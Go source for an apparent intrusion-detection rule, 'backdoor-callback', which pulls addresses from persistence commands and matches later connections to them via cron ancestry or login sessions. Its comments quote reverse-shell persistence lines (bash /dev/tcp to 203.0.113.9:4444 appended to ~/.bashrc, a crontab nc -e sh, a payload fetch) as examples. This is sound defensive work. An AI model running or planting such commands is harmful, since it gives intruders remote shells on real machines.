package detect

import (
	"net/netip"
	"path"
	"strconv"
	"strings"

	"github.com/auditchain/auditchain/internal/lazydfa"
	"github.com/auditchain/auditchain/parser"
)

// A planted backdoor calls back. A persistence act whose command names an
// address and port — `echo 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >>
// ~/.bashrc`, a crontab line with `nc 203.0.113.9 4444 -e sh`, a profile
// edited with sed to fetch http://203.0.113.9:8000/b — tells where the
// backdoor will connect. A later connection to exactly that address and
// port by a process that is not the planting command itself is tied to
// the plant by the address in the plant's own command line (observed).
// Whether it is the backdoor firing is said only on evidence that what the
// plant changed ran it: a profile runs in login sessions (the process has
// a login's audit session), a crontab or cron file under cron (cron is an
// ancestor). Otherwise the intruder used the same address another way
// (the attacker ran the planted command again through a web shell), and
// the finding says only that. PlantedPeer gives the rules "fired" or
// "named"; backdoor-callback is the rule. A port-forward spec's target
// (ssh -R 18070:127.0.0.1:8070) is where forwarded connections go, not a
// callback address, and is not taken.

// RuleBackdoorCallback is the rule of a connect to a planted address
// (rules/backdoor_callback.yml); its finding's last related event is the
// persistence act that named the address, which the timeline joins.
const RuleBackdoorCallback = "backdoor-callback"

// plantedPeers bounds the addresses remembered from persistence acts.
const plantedPeers = 256

// plantKey is an address and port a persistence act named.
type plantKey struct {
	host, ip string
	port     int
}

// plant is the persistence act that named it.
type plant struct {
	ev      *parser.Event   // the act (kept by its finding)
	planter *parser.Process // the process that made it, and its descendants, are not the callback
	via     plantVia        // what runs the plant
}

// plantVia is what runs a planted command.
type plantVia uint8

const (
	viaOther   plantVia = iota
	viaProfile          // a shell profile: login shells
	viaCron             // a crontab or cron file: cron
	viaJobHook          // a logrotate file: logrotate (from cron)
)

// profilePlant and cronPlant tell what a persistence act changed, from
// its file or command.
var (
	// ssh's rc files run in the login too (sshd runs them before the shell)
	profilePlant = lazydfa.MustCompile(`(^|/)\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zlogin)\b|/etc/profile|/etc/bash\.bashrc|/etc/zsh/|/\.ssh/rc\b|/etc/ssh/sshrc\b`)
	cronPlant    = lazydfa.MustCompile(`/etc/cron|/var/spool/cron|(^|[\s;|&(/])crontab(\s|$)|/etc/anacrontab`)
	jobHookPlant = lazydfa.MustCompile(`/etc/logrotate\.(d/|conf)`)
)

// plants remembers the named peers, oldest dropped first (counted).
type plants struct {
	by      map[plantKey]plant
	order   []plantKey
	dropped int
}

// peerInCommand finds an IPv4 address with a port in a command: bash's
// /dev/tcp/ADDR/PORT, ADDR:PORT (socat, URLs), "ADDR PORT" (nc), and a
// URL without a port (its scheme's).
var peerInCommand = lazydfa.MustCompile(`/dev/(?:tcp|udp)/(\d{1,3}(?:\.\d{1,3}){3})/(\d{1,5})|(https?)://(\d{1,3}(?:\.\d{1,3}){3})(?::(\d{1,5}))?|(\d{1,3}(?:\.\d{1,3}){3})(?::|\s+)(\d{1,5})\b`)

// namedPeers returns the address/port pairs a command names.
func namedPeers(cmd string) []plantKey {
	var out []plantKey
	for _, idx := range peerInCommand.FindAllStringSubmatchIndex(cmd, 8) {
		m := make([]string, len(idx)/2)
		for i := range m {
			if idx[2*i] >= 0 {
				m[i] = cmd[idx[2*i]:idx[2*i+1]]
			}
		}
		if forwardTarget(cmd[:idx[0]]) || strings.HasPrefix(cmd[idx[1]:], ":") {
			continue // a forward's target, or its listen address (ADDR:PORT:…)
		}
		ip, port := m[1], m[2]
		switch {
		case m[4] != "":
			ip, port = m[4], m[5]
			if port == "" {
				port = "80"
				if m[3] == "https" {
					port = "443"
				}
			}
		case m[6] != "":
			ip, port = m[6], m[7]
		}
		a, err := netip.ParseAddr(ip)
		n, perr := strconv.Atoi(port)
		if err != nil || perr != nil || n <= 0 || n > 65535 || a.IsUnspecified() {
			continue
		}
		out = append(out, plantKey{ip: a.String(), port: n})
	}
	return out
}

// forwardTarget reports whether the text before an ADDR:PORT ends a port
// forward's listen part ("-R 18070:" or "-L 127.0.0.1:18070:"): the
// address is where forwarded connections go.
func forwardTarget(before string) bool {
	i := len(before)
	if i == 0 || before[i-1] != ':' {
		return false
	}
	j := i - 1
	for j > 0 && before[j-1] >= '0' && before[j-1] <= '9' {
		j--
	}
	// the port stands alone: "-R 18070:" or "127.0.0.1:18070:", not the
	// end of a word (socat's UDP4:, TCP6:)
	return j < i-1 && (j == 0 || strings.IndexByte(" \t:='\"", before[j-1]) >= 0)
}

// notePlant remembers the peers a persistence finding's command names.
func (s *state) notePlant(f *Finding) {
	if f.Stage != StagePersistence || f.Event == nil || f.Process == nil {
		return
	}
	args := f.Event.Args
	if len(args) == 0 && (f.Event.Kind == parser.KindExec || !s.isWebServer(f.Process)) {
		// a command's line says what it plants (sh -c "echo … >>
		// ~/.bashrc"); a server that writes a file from inside itself
		// has only its start command, which names the address it
		// listens on (puma -b tcp://127.0.0.1:9071), not one it will call
		args = f.Process.Args
	}
	texts := []string{strings.Join(args, " ")}
	if f.Event.Kind != parser.KindExec {
		// a file written by what a shell fed through a pipe (`echo <b64> |
		// base64 -d > ~/.ssh/rc`: the writer is base64, or the subshell of
		// the redirection): the content is named in the shell's command
		if sc, ok := parentShellCommand(f.Process); ok {
			texts = append(texts, sc)
		}
	}
	var all []string
	for _, t := range texts {
		// what the shell writes names the address only once decoded
		// (deobfuscate.go, bounded)
		all = append(append(all, t), shellForms(t)...)
	}
	cmd := strings.Join(all, "\n")
	for _, k := range namedPeers(cmd) {
		k.host = f.Host
		if s.plants.by == nil {
			s.plants.by = map[plantKey]plant{}
		}
		if _, ok := s.plants.by[k]; ok {
			continue // the first plant names it
		}
		if len(s.plants.order) >= plantedPeers {
			delete(s.plants.by, s.plants.order[0])
			s.plants.order = s.plants.order[1:]
			s.plants.dropped++ // said in the report (Engine.Dropped)
		}
		f.Event.Retain(parser.KeepText) // its finding retains it too (pinFinding)
		s.plants.by[k] = plant{ev: f.Event, planter: f.Process, via: plantedVia(f.Event.Path, strings.Join(args, " "))}
		s.plants.order = append(s.plants.order, k)
	}
}

// plantedVia says what runs a plant: its file, else its command.
func plantedVia(file, cmd string) plantVia {
	for _, t := range []string{file, cmd} {
		switch {
		case t == "":
		case profilePlant.MatchString(t):
			return viaProfile
		case cronPlant.MatchString(t):
			return viaCron
		case jobHookPlant.MatchString(t):
			return viaJobHook
		}
	}
	return viaOther
}

// fired reports whether what the plant changed ran p: a profile in a
// login session, a cron plant under cron.
func (pl *plant) fired(p *parser.Process) bool {
	switch pl.via {
	case viaProfile:
		return p != nil && p.AUID.Set && p.AUID.N != parser.Unset
	case viaCron:
		for n := 0; p != nil && n < 32; p, n = p.Parent, n+1 {
			switch path.Base(p.Exe) {
			case "cron", "crond", "atd", "anacron":
				return true
			}
		}
	case viaJobHook:
		for n := 0; p != nil && n < 32; p, n = p.Parent, n+1 {
			if path.Base(p.Exe) == "logrotate" {
				return true
			}
		}
	}
	return false
}

// opensCallbackChannel reports whether a connect is a planted backdoor
// calling back with a shell on the socket: a shell, interpreter or relay
// (socat … EXEC:/bin/sh fired by cron's logrotate, a profile's bash -i
// >& /dev/tcp/…) connecting to the address and port a persistence act of
// the chain named. It runs wherever the plant fired — under cron, in a
// login — with no web server above it, yet it is the intruder's channel:
// what runs in it is judged as the intruder's (T1546, then T1059).
func (s *state) opensCallbackChannel(ev *parser.Event, in *procInfo) bool {
	if ev.Failed() || ev.Proc == nil || in.channel != nil || !inet(ev.Peer) {
		return false
	}
	exe := ev.Exe
	if exe == "" {
		exe = ev.Proc.Exe
	}
	return isChannelImage(exe) && !tlsCheckProcess(ev.Proc) && s.plantedFor(ev) != nil
}

// plantedFor returns the persistence act that named ev's peer, when ev is
// a connect by a process other than the planter and its descendants.
func (s *state) plantedFor(ev *parser.Event) *plant {
	if ev.Kind != parser.KindConnect || len(s.plants.by) == 0 || ev.Peer.IP == "" {
		return nil
	}
	a, err := netip.ParseAddr(ev.Peer.IP)
	if err != nil {
		return nil
	}
	pl, ok := s.plants.by[plantKey{ev.Host, a.Unmap().String(), ev.Peer.Port}]
	if !ok {
		return nil
	}
	for p, n := ev.Proc, 0; p != nil && n < 32; p, n = p.Parent, n+1 {
		if pl.planter != nil && p.Key == pl.planter.Key {
			return nil // the planting command itself
		}
	}
	return &pl
}

// text says what the plant was, short: the command, or the file written
// and the command that wrote it.
func (pl *plant) text() string {
	cmd := strings.Join(pl.ev.Args, " ")
	if cmd == "" && pl.planter != nil {
		cmd = strings.Join(pl.planter.Args, " ")
	}
	if r := []rune(cmd); len(r) > 100 {
		cmd = string(r[:100]) + "…"
	}
	if pl.ev.Kind != parser.KindExec && pl.ev.Path != "" {
		return "write of " + pl.ev.Path + " by `" + cmd + "`"
	}
	return "`" + cmd + "`"
}
